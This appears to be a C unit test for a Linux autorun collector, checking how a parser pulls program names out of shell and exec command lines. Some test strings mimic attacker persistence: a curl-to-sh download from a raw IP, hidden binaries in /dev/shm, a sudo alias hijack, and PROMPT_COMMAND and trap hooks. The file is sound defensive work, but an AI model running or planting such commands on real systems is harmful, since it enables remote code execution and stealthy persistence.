/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/unit/test.h"

#include "collectors/linux/autorun/command.h"

static void check(const char *command, enum command_syntax syntax, const char *wanted)
{
	struct buf list = { 0 }, shown = { 0 };
	struct span rest, item;

	command_programs(&list, span_of(command), syntax);
	rest = buf_span(&list);
	while (list_next(&rest, &item)) {
		if (shown.size)
			buf_byte(&shown, '|');
		buf_add(&shown, item);
	}
	test_text(__FILE__, __LINE__, command, buf_span(&shown), span_of(wanted));
	buf_done(&list);
	buf_done(&shown);
}

TEST(shell_lines)
{
	static const struct { const char *command, *wanted; } cases[] = {
		{ "/usr/bin/x -a b", "/usr/bin/x" },
		{ "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "run-parts" },
		{ "[ -x /a ] && if [ -d /b ]; then /b/run >/dev/null 2>&1; fi", "/b/run" },
		{ "A=1 B=\"c d\" env -u X C=2 nice -n 10 /opt/my\\ prog --x", "/opt/my prog|nice|env" },
		{ "curl -fsS http://198.51.100.7/a | sh", "curl|sh" },
		{ "/bin/sh -c \"/dev/shm/.x/run; exec 'sleeper' 5\"", "/dev/shm/.x/run|sleeper|/bin/sh" },
		{ "sh -c \"sh -c \\\"/deep/one\\\"\"", "/deep/one|sh|sh" },
		{ "bash -lc '/a/b'", "/a/b|bash" },
		{ "python3.11 -u /opt/job.py --all", "/opt/job.py|python3.11" },
		{ "python3 -c 'import os; os.system(\"/x\")'", "python3" },
		{ "perl -e 'exec /x'", "perl" },
		{ "/usr/bin/java -Xmx1g -jar /opt/a.jar", "/opt/a.jar|/usr/bin/java" },
		{ "sudo -u www-data timeout -k 5 10 /srv/run", "/srv/run|timeout|sudo" },
		{ "su - deploy -c '/srv/deploy/go now'", "/srv/deploy/go|su" },
		{ "start-stop-daemon --start --exec /usr/sbin/d --", "/usr/sbin/d|start-stop-daemon" },
		{ ". /etc/default/x; . ~/.env", "/etc/default/x|~/.env" },
		{ "(/dev/shm/.x/kworkerd &) 2>/dev/null", "/dev/shm/.x/kworkerd" },
		{ "X=$(/tmp/a b) echo `/tmp/c` \"$(/tmp/d e)\"", "/tmp/a|/tmp/c|/tmp/d" },
		{ "# only a comment /x", "" },
		{ "command -v x >/dev/null && x 1 1", "x" },
		{ "flock -n /run/lock /usr/bin/job", "/usr/bin/job|flock" },
		{ "$HOME/bin/x; ${HOME}/y; $X/z; /a/*", "$HOME/bin/x|${HOME}/y" },
		{ "alias sudo=\"/var/tmp/sudo -x\" ls='ls --color'", "/var/tmp/sudo|ls" },
		{ "export PROMPT_COMMAND='history; /tmp/.p'", "history|/tmp/.p" },
		{ "trap '/tmp/t; x' EXIT", "/tmp/t|x" },
		{ "awk -F: '/^root/ { print $1 }' /etc/passwd", "awk" },
		{ "\"/never ends", "/never ends" },
		{ "a \\\n/b", "a" },
		{ "", "" },
	};

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
		check(cases[i].command, COMMAND_SHELL, cases[i].wanted);
}

TEST(exec_lines)
{
	static const struct { const char *command, *wanted; } cases[] = {
		{ "/usr/sbin/sshd -D $SSHD_OPTS", "/usr/sbin/sshd" },
		{ "/bin/sh -c 'test -x /a && exec /a'", "/a|/bin/sh" },
		{ "\"/opt/with blank/run\" a;b", "/opt/with blank/run" },
		{ "/bin/true ; /opt/second", "/bin/true|/opt/second" },
		{ "env A=b python3 /x", "/x|python3|env" },
		{ "/x & /y | /z", "/x" },
	};

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
		check(cases[i].command, COMMAND_EXEC, cases[i].wanted);
}

TEST(many_words_and_deep_nests_end)
{
	struct buf command = { 0 }, list = { 0 };

	for (int i = 0; i < 100000; i++)
		buf_text(&command, "sh -c \"sh -c '");
	command_programs(&list, buf_span(&command), COMMAND_SHELL);
	CHECK(!list.bad);
	buf_clear(&command);
	for (int i = 0; i < 10000; i++)
		buf_text(&command, "/x;");
	buf_clear(&list);
	command_programs(&list, buf_span(&command), COMMAND_SHELL);
	CHECK_INT(list.size, 3 * COMMAND_PROGRAMS);
	buf_done(&command);
	buf_done(&list);
}
